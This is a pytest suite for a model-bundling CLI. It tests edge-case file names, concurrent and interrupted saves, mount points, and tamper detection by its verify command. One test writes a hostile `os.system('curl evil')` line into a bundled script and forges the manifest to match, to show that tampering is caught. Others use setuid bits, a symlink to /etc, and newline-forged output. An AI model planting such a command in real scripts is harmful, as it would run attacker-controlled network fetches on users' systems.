"""Hardening, robustness (issue "Hardening", items 5-7): names and sizes at the edges,
concurrency and leftovers, and what verify used to miss."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest
from requires import require_root

from bundler import emit, in_place, leftovers
from bundler.cli import shown

REPO = Path(__file__).resolve().parent.parent
GOOD_SCRIPT = "def init():\n    pass\ndef run(raw):\n    return raw\n"


def write(path: Path, text: str | bytes) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    return path


def save(cli, out="out", *extra):
    return cli("save", out, "--model", "m", "--entry-script", "score.py", *extra)


def one_error_line(result) -> str:
    lines = result.output.strip().splitlines()
    assert result.exit_code != 0 and len(lines) == 1 and lines[0].startswith("bundler: error: "), result.output
    return lines[0]


# -- 5. names and sizes at the edges -------------------------------------------------------


def test_a_240_character_output_folder_name_saves(project, cli):
    name = "o" * 240
    assert save(cli, name).exit_code == 0
    assert (project / name / "bundle.json").is_file() and save(cli, name).exit_code == 0


def test_a_source_file_name_that_is_not_utf8_is_one_line(tmp_path, cli, monkeypatch):
    write(tmp_path / "src" / "score.py", GOOD_SCRIPT)
    write(Path(os.fsdecode(bytes(tmp_path / "src") + b"/caf\xe9.txt")), "x")
    write(tmp_path / "m.bin", "m")
    monkeypatch.chdir(tmp_path)
    cli("register", "m.bin", "--name", "m")
    line = one_error_line(cli("save", "out", "--model", "m", "--source-dir", "src", "--entry-script", "score.py"))
    assert "caf\\xe9.txt: the file name is not UTF-8" in line and "rename it" in line


def test_registering_a_name_that_is_not_utf8_is_refused_in_one_line(tmp_path, cli):
    folder = tmp_path / "model"
    write(folder / "ok.bin", "ok")
    write(Path(os.fsdecode(bytes(folder) + b"/w\xff.bin")), "w")
    line = one_error_line(cli("register", str(folder), "--name", "m"))
    assert "w\\xff.bin: the file name is not UTF-8" in line
    single = write(Path(os.fsdecode(bytes(tmp_path) + b"/m\xfe.bin")), "m")
    assert "not UTF-8" in one_error_line(cli("register", str(single), "--name", "m"))


@pytest.mark.parametrize(
    "setup, expected",
    [
        (lambda p: write(p / "bundler.toml", "a = " + "[" * 5000 + "]" * 5000 + "\n"), "nested too deeply"),
        (lambda p: write(p / "score.py", GOOD_SCRIPT + "x = " + "+".join(["1"] * 100000) + "\n"), "score.py"),
        (lambda p: write(p / "score.py", GOOD_SCRIPT + "x = " + "(" * 5000 + ")" * 5000 + "\n"), "score.py"),
    ],
    ids=["deep toml", "long expression", "deep parentheses"],
)
def test_deeply_nested_inputs_are_one_line(project, cli, setup, expected):
    setup(project)
    assert expected in one_error_line(save(cli))


def test_a_deeply_nested_manifest_is_one_line(project, cli):
    assert save(cli).exit_code == 0
    (project / "out" / "bundle.json").write_text('{"files": ' + "[" * 100000 + "]" * 100000 + "}")
    assert "not a readable bundle manifest" in one_error_line(cli("verify", "out"))


def test_a_config_file_with_a_byte_order_mark_is_read(project, cli):
    write(project / "bundler.toml", "\ufeff" + 'models = ["m"]\n[inference]\nentry_script = "score.py"\n')
    assert cli("save", "out").exit_code == 0


# -- 6. concurrency and leftovers ----------------------------------------------------------


def test_a_save_to_out_leaves_the_live_staging_of_a_save_to_out_b_alone(project, cli):
    other = project / f"{emit.staging_prefix(project / 'out-b')}live"
    write(other / "part.bin", "x")
    fd = os.open(other, os.O_RDONLY | os.O_DIRECTORY)
    try:
        assert leftovers.lock(fd)
        assert save(cli).exit_code == 0
        assert (other / "part.bin").exists()
    finally:
        os.close(fd)
    assert save(cli, "out-b").exit_code == 0 and not other.exists()  # stale once unlocked: out-b's save clears it


def test_a_killed_registers_leftovers_are_freed_by_the_next_register(tmp_path, cli):
    home = Path(os.environ["BUNDLER_HOME"])
    write(tmp_path / "a.bin", "a")
    assert cli("register", str(tmp_path / "a.bin"), "--name", "a").exit_code == 0
    write(home / "tmp" / "blob-killed", b"\0" * 300_000)  # what a SIGKILLed register leaves
    result = cli("register", str(tmp_path / "a.bin"), "--name", "a")
    assert result.exit_code == 0 and "freed: 300.0 KB left in the registry by an interrupted register" in result.output
    assert not any((home / "tmp").iterdir())


def test_gc_frees_leftovers_and_files_no_version_uses(tmp_path, cli):
    home = Path(os.environ["BUNDLER_HOME"])
    write(tmp_path / "a.bin", "a")
    cli("register", str(tmp_path / "a.bin"), "--name", "a")
    write(home / "tmp" / "blob-killed", b"\0" * 2000)
    orphan = write(home / "blobs" / "sha256" / "ff" / ("f" * 64), b"\0" * 1000)  # stored, never recorded
    result = cli("gc")
    assert result.exit_code == 0 and "freed 3.0 KB" in result.output and "1 stored file(s)" in result.output
    assert not orphan.exists() and cli("models", "show", "a").exit_code == 0
    assert "freed 0 bytes" in cli("gc").output


def test_gc_waits_for_no_register(tmp_path):
    import fcntl

    from bundler.errors import RegistryError
    from bundler.registry import Registry

    registry = Registry(tmp_path / "home")
    (tmp_path / "home").mkdir()
    holder = os.open(tmp_path / "home" / "lock", os.O_RDWR | os.O_CREAT)
    fcntl.flock(holder, fcntl.LOCK_SH)  # as a running register holds it (flock locks are per open file)
    try:
        with pytest.raises(RegistryError, match="a register is running"):
            registry.gc()
    finally:
        os.close(holder)
    assert registry.gc().blob_count == 0


@pytest.fixture
def mount_point(tmp_path):
    """A folder that is a mount point, as a `docker run -v` volume is (a bind mount here)."""
    require_root("bind mounts need root")
    folder = tmp_path / "volume"
    folder.mkdir()
    subprocess.run(["mount", "--bind", str(folder), str(folder)], check=True)
    try:
        yield folder
    finally:
        subprocess.run(["umount", str(folder)], check=True)


def test_a_mount_point_is_saved_into_and_replaced_in_place(project, cli, mount_point):
    assert in_place.is_mount_point(mount_point)
    assert save(cli, str(mount_point)).exit_code == 0
    write(project / "score.py", GOOD_SCRIPT + "# v2\n")
    assert save(cli, str(mount_point)).exit_code == 0
    assert "# v2" in (mount_point / "azureml-app" / "score.py").read_text()
    assert cli("verify", str(mount_point)).exit_code == 0
    assert not [p for p in mount_point.iterdir() if p.name.startswith(".bundler-tmp-")]


@pytest.mark.parametrize("stopped_at", ["before the swap", "old entries moved aside", "new entries half in"])
def test_a_save_killed_inside_a_mount_point_is_finished_or_undone_by_the_next(project, cli, mount_point, stopped_at):
    """Recreates what a save leaves at each step when killed, then saves again."""
    assert save(cli, str(mount_point)).exit_code == 0
    old_bundle = {p.name for p in mount_point.iterdir()}
    prefix = emit.staging_prefix(mount_point)
    new = mount_point / f"{prefix}new-x1"
    old = mount_point / f"{prefix}old-x1"
    write(project / "score.py", GOOD_SCRIPT + "# v2\n")
    subprocess.run(
        [sys.executable, "-m", "bundler", "save", str(new), "--model", "m", "--entry-script", "score.py"],
        cwd=project,
        check=True,
        capture_output=True,
    )
    if stopped_at != "before the swap":
        old.mkdir()
        for name in sorted(old_bundle, key=lambda n: n != "bundle.json"):
            os.rename(mount_point / name, old / name)
    if stopped_at == "new entries half in":
        ready = mount_point / f"{prefix}in-x1"
        os.rename(new, ready)
        os.rename(ready / "Dockerfile", mount_point / "Dockerfile")
    write(project / "score.py", GOOD_SCRIPT + "# v3\n")
    result = save(cli, str(mount_point))
    assert result.exit_code == 0, result.output
    assert "# v3" in (mount_point / "azureml-app" / "score.py").read_text()
    assert cli("verify", str(mount_point)).exit_code == 0
    assert not [p for p in mount_point.iterdir() if p.name.startswith(".bundler-tmp-")]


# -- 7. what verify missed -----------------------------------------------------------------


@pytest.mark.parametrize(
    "edit, line",
    [
        (lambda out: os.chmod(out / "Dockerfile", 0o4644), "modified: Dockerfile"),
        (lambda out: os.chmod(out / "azureml-app", 0o777), "modified: azureml-app/"),
        (lambda out: os.symlink("/etc", out / "azureml-app" / "etc"), "extra: azureml-app/etc"),
        (lambda out: (out / "azureml-app" / "empty").mkdir(), "extra: azureml-app/empty/"),
        (lambda out: os.chmod(out / "runtime", 0o1755), "modified: runtime/"),
    ],
    ids=["setuid", "folder mode", "link to a folder", "empty folder", "sticky folder"],
)
def test_verify_sees_what_it_used_to_miss(project, cli, edit, line):
    assert save(cli).exit_code == 0
    edit(project / "out")
    result = cli("verify", "out")
    assert result.exit_code == 1 and line in result.output.splitlines()


def test_a_newline_in_a_name_cannot_forge_an_ok_line(project, cli):
    assert save(cli).exit_code == 0
    write(project / "out" / "x\nok: every file of out matches bundle.json", "forged")
    result = cli("verify", "out")
    assert result.exit_code == 1
    assert 'extra: "x\\nok: every file of out matches bundle.json"' in result.output
    assert not any(line.startswith("ok:") for line in result.output.splitlines())


def test_shown_names_are_plain_when_plain_and_escaped_otherwise():
    assert shown("azureml-app/score.py") == "azureml-app/score.py"
    assert shown("a\tb") == '"a\\tb"'
    assert shown(os.fsdecode(b"caf\xe9")) == '"caf\\xe9"'
    assert shown(' lead"') == '" lead\\""'


def test_verify_against_inputs_finds_an_edit_the_manifest_was_made_to_match(project, cli):
    assert save(cli).exit_code == 0
    app = project / "out" / "azureml-app" / "score.py"
    app.write_text(GOOD_SCRIPT + "import os; os.system('curl evil')\n")
    manifest = json.loads((project / "out" / "bundle.json").read_text())
    import hashlib

    entry = manifest["files"]["azureml-app/score.py"]
    entry.update(sha256=hashlib.sha256(app.read_bytes()).hexdigest(), size=app.stat().st_size)
    (project / "out" / "bundle.json").write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
    assert cli("verify", "out").exit_code == 0  # by design: bundle.json is not signed
    result = cli("verify", "out", "--against-inputs", "--model", "m", "--entry-script", "score.py")
    assert result.exit_code == 1
    assert {"modified: azureml-app/score.py", "modified: bundle.json"} <= set(result.output.splitlines())
    (project / "out" / "bundle.json").unlink()
    assert save(cli, "out", "--force").exit_code == 1  # not a bundle any more: never replaced


def test_verify_against_unchanged_inputs_is_ok(project, cli):
    assert save(cli).exit_code == 0
    result = cli("verify", "out", "--against-inputs", "--model", "m", "--entry-script", "score.py")
    assert result.exit_code == 0 and "matches the inputs" in result.output


# -- found by a second review -----------------------------------------------------------------


def test_a_mount_point_being_saved_is_not_saved_into_by_another(project, cli, mount_point):
    assert save(cli, str(mount_point)).exit_code == 0
    fd = os.open(mount_point, os.O_RDONLY | os.O_DIRECTORY)
    try:
        assert leftovers.lock(fd)  # as a save in progress holds it
        assert "another save is writing to" in one_error_line(save(cli, str(mount_point)))
    finally:
        os.close(fd)
    assert cli("verify", str(mount_point)).exit_code == 0


def _parallel_saves(project, out, count=6, rounds=3):
    env = {**os.environ}
    failures = []
    for _ in range(rounds):
        processes = [
            subprocess.Popen(
                [sys.executable, "-m", "bundler", "save", out, "--model", "m", "--entry-script", "score.py"],
                cwd=project,
                env=env,
                stdout=subprocess.PIPE,
                stderr=subprocess.PIPE,
                text=True,
            )
            for _ in range(count)
        ]
        for process in processes:
            _, err = process.communicate()
            if process.returncode != 0 and "another save is writing" not in err:
                failures.append(err)
    return failures


def test_concurrent_saves_to_one_folder_all_succeed_and_leave_one_bundle(project, cli):
    assert save(cli).exit_code == 0
    assert _parallel_saves(project, "out") == []
    assert cli("verify", "out").exit_code == 0 and not [p for p in project.iterdir() if ".bundler-tmp" in p.name]


def test_an_old_bundle_still_locked_by_the_save_that_placed_it_is_removed_once_let_go(project, cli):
    """A save that exchanges out a bundle another save has just placed (and whose lock that
    save has not yet let go) used to leave it to that save, which removes nothing: a leftover."""
    import threading

    assert save(cli).exit_code == 0
    fd = os.open(project / "out", os.O_RDONLY | os.O_DIRECTORY)
    assert leftovers.lock(fd)  # as the save that placed it holds it for an instant
    threading.Timer(0.3, os.close, [fd]).start()
    assert save(cli).exit_code == 0
    assert not [p.name for p in project.iterdir() if ".bundler-tmp" in p.name]
    assert cli("verify", "out").exit_code == 0


def _a_torn_read(real_check, dest, aside):
    shutil.copytree(aside, dest)  # the other save's bundle arrives ...
    (aside / "Dockerfile").unlink()  # ... and the old one is removed under this read
    return real_check(aside)


def _a_moment_without_dest(real_is_bundle, dest, aside):
    seen = real_is_bundle(dest)  # a save without the atomic exchange has moved it aside
    shutil.copytree(aside, dest)
    return seen


@pytest.mark.parametrize(
    "module, name, first_look",
    [(emit.verify, "check", _a_torn_read), (emit.layout, "is_bundle", _a_moment_without_dest)],
    ids=["torn read", "moment without dest"],
)
def test_a_bundle_replaced_by_another_save_while_it_is_checked_is_checked_again(
    project, cli, monkeypatch, module, name, first_look
):
    """The bundle a save is about to replace is read file by file; a concurrent save that
    replaces it meanwhile is no reason to refuse (hand edits, not a bundle): look again."""
    assert save(cli).exit_code == 0
    real, calls = getattr(module, name), []

    def look(dest):
        calls.append(dest)
        if len(calls) > 1:
            return real(dest)
        os.rename(dest, project / "aside")
        return first_look(real, dest, project / "aside")

    monkeypatch.setattr(module, name, look)
    assert save(cli).exit_code == 0 and len(calls) > 1
    monkeypatch.setattr(module, name, real)
    (project / "out" / "Dockerfile").write_text("edited\n")
    assert "hand edits" in one_error_line(save(cli))  # a real edit is still refused


def test_a_save_into_a_folder_someone_holds_a_lock_on_does_not_wait_for_them(project, cli):
    """`flock out bundler save out` holds a lock on the very folder save exchanges out: save
    leaves it after a moment (the next save removes it) rather than waiting forever."""
    assert save(cli).exit_code == 0
    fd = os.open(project / "out", os.O_RDONLY | os.O_DIRECTORY)
    try:
        assert leftovers.lock(fd)
        assert save(cli).exit_code == 0 and cli("verify", "out").exit_code == 0
        assert len([p for p in project.iterdir() if ".bundler-tmp" in p.name]) == 1
    finally:
        os.close(fd)
    assert save(cli).exit_code == 0
    assert not [p.name for p in project.iterdir() if ".bundler-tmp" in p.name]


def test_an_interrupt_while_the_old_bundle_is_removed_says_the_bundle_was_saved(project, cli, monkeypatch):
    assert save(cli).exit_code == 0
    (project / "score.py").write_text(GOOD_SCRIPT + "# new\n")
    real_remove_tree = emit.leftovers.remove_tree

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(emit.leftovers, "remove_tree", interrupted)
    line = one_error_line(save(cli))
    assert "interrupted after the bundle was saved to" in line and "the next save to it removes it" in line
    assert "# new" in (project / "out" / "azureml-app" / "score.py").read_text()
    monkeypatch.setattr(emit.leftovers, "remove_tree", real_remove_tree)
    assert save(cli).exit_code == 0 and not [p.name for p in project.iterdir() if ".bundler-tmp" in p.name]


def test_a_folder_holding_only_lost_and_found_is_not_taken_for_an_empty_one(project, cli):
    """lost+found is left alone at the root of a mounted volume; in an ordinary folder it is
    the user's, and a save never replaces a folder that is not a bundle."""
    kept = write(project / "out" / "lost+found" / "file", "x")
    assert "not a bundle" in one_error_line(save(cli))
    assert kept.read_text() == "x"


def test_without_the_atomic_exchange_a_save_still_replaces_the_bundle_and_leaves_nothing(project, cli, monkeypatch):
    monkeypatch.setattr(emit.syscalls, "exchange", lambda fd, a, b: False)  # a kernel or file system without renameat2
    assert save(cli).exit_code == 0
    (project / "score.py").write_text(GOOD_SCRIPT + "# changed\n")
    assert save(cli).exit_code == 0
    assert "# changed" in (project / "out" / "azureml-app" / "score.py").read_text()
    assert not [p.name for p in project.iterdir() if ".bundler-tmp" in p.name]
    assert cli("verify", "out").exit_code == 0


def test_a_save_to_an_empty_folder_fills_it_and_one_to_a_bundle_replaces_it(project, cli):
    (project / "out").mkdir()
    assert save(cli).exit_code == 0 and (project / "out" / "bundle.json").is_file()
    assert save(cli).exit_code == 0 and cli("verify", "out").exit_code == 0
    assert not [p.name for p in project.iterdir() if ".bundler-tmp" in p.name]


def test_concurrent_saves_to_a_mount_point_leave_one_whole_bundle(project, cli, mount_point):
    assert save(cli, str(mount_point)).exit_code == 0
    assert _parallel_saves(project, str(mount_point)) == []  # each one saves, or says another is saving
    assert cli("verify", str(mount_point)).exit_code == 0
    assert not [p for p in mount_point.iterdir() if p.name.startswith(".bundler-tmp")]


def test_a_mount_point_inside_an_old_bundle_is_never_deleted(project, cli, tmp_path):
    require_root("bind mounts need root")
    assert save(cli).exit_code == 0
    precious = write(tmp_path / "precious" / "notes.txt", "keep")
    target = project / "out" / "azureml-app" / "mounted"
    target.mkdir()
    subprocess.run(["mount", "--bind", str(precious.parent), str(target)], check=True)
    try:
        line = one_error_line(save(cli, "out", "--force"))
        assert "holds a mount point" in line and "unmount it" in line
        assert precious.read_text() == "keep"
    finally:
        subprocess.run(["umount", str(target)], check=True)


def test_verify_checks_the_manifest_itself(project, cli):
    assert save(cli).exit_code == 0
    os.chmod(project / "out" / "bundle.json", 0o4755)
    assert "modified: bundle.json" in cli("verify", "out").output
    os.chmod(project / "out" / "bundle.json", 0o644)
    os.rename(project / "out" / "bundle.json", project / "elsewhere.json")
    os.symlink(project / "elsewhere.json", project / "out" / "bundle.json")
    result = cli("verify", "out")
    assert result.exit_code == 1 and "modified: bundle.json" in result.output


VERIFY_AS_OWNER = """
import sys
from pathlib import Path
sys.path.insert(0, sys.argv[1])
from bundler.verify import check
report = check(Path(sys.argv[2]))
print(" ".join(report.modified) + "|" + " ".join(report.missing))
"""


def test_an_unlistable_folder_of_ones_own_bundle_is_reported_not_a_crash(project, cli):
    """As the bundle's owner (root lists anything): a folder made mode 000 is modified, and
    what it holds is not called missing."""
    require_root("running the check as another user needs root")
    assert save(cli).exit_code == 0
    work = Path(tempfile.mkdtemp(prefix="bundler-owner-"))
    try:
        shutil.copytree(REPO / "bundler", work / "bundler", ignore=shutil.ignore_patterns("runtime"))
        shutil.copytree(project / "out", work / "out")
        (work / "out" / "azureml-app" / "locked").mkdir()
        for path in [work, *work.rglob("*")]:
            os.chown(path, 65534, 65534, follow_symlinks=False)
            if path.is_dir():
                os.chmod(path, 0o755)
        os.chmod(work / "out" / "azureml-app", 0o000)
        python = "/usr/bin/python3" if Path("/usr/bin/python3").exists() else sys.executable
        done = subprocess.run(
            [
                "setpriv",
                "--reuid=65534",
                "--regid=65534",
                "--clear-groups",
                python,
                "-c",
                VERIFY_AS_OWNER,
                str(work),
                str(work / "out"),
            ],
            capture_output=True,
            text=True,
        )
        assert done.returncode == 0, done.stderr
        assert done.stdout.strip() == "azureml-app/|"
    finally:
        shutil.rmtree(work, ignore_errors=True)


@pytest.mark.parametrize(
    "args, expected",
    [
        (["models", "show", "a:\u00b9"], "the version must be a whole number"),
        (["save", "out", "--model", "m:\u00b9", "--entry-script", "score.py"], "the version must be a whole number"),
    ],
)
def test_odd_versions_are_one_line(project, cli, args, expected):
    assert expected in one_error_line(cli(*args))


def test_odd_names_to_register_and_save_are_one_line(project, cli):
    folder = Path(os.fsdecode(bytes(project) + b"/\xffdir"))
    write(folder / "w.bin", "w")
    assert "not UTF-8" in one_error_line(cli("register", str(folder), "--name", "nu"))
    script = write(Path(os.fsdecode(bytes(project) + b"/sc\xff.py")), GOOD_SCRIPT)
    assert "not UTF-8" in one_error_line(cli("save", "out", "--model", "m", "--entry-script", str(script)))


def test_a_line_break_in_the_output_folder_cannot_forge_a_line(project, cli):
    result = save(cli, "o\nwrote 99 files to /etc")
    assert result.exit_code == 0
    lines = result.output.splitlines()
    assert lines[-1].startswith("next: docker build --tag m ") and "\\n" in lines[-1]
    assert not any(line.startswith("wrote 99") for line in lines)


def test_a_password_in_a_base_image_is_never_repeated(project, cli):
    line = one_error_line(save(cli, "out", "--base-image", "u:hunter2secret@myreg.io/x:1 "))
    assert "hunter2secret" not in line and "not an image reference" in line


def test_a_fresh_volume_with_its_lost_and_found_is_saved_into(project, cli, mount_point):
    (mount_point / "lost+found").mkdir()
    assert save(cli, str(mount_point)).exit_code == 0
    assert save(cli, str(mount_point)).exit_code == 0 and (mount_point / "lost+found").is_dir()
    assert cli("verify", str(mount_point)).exit_code == 0
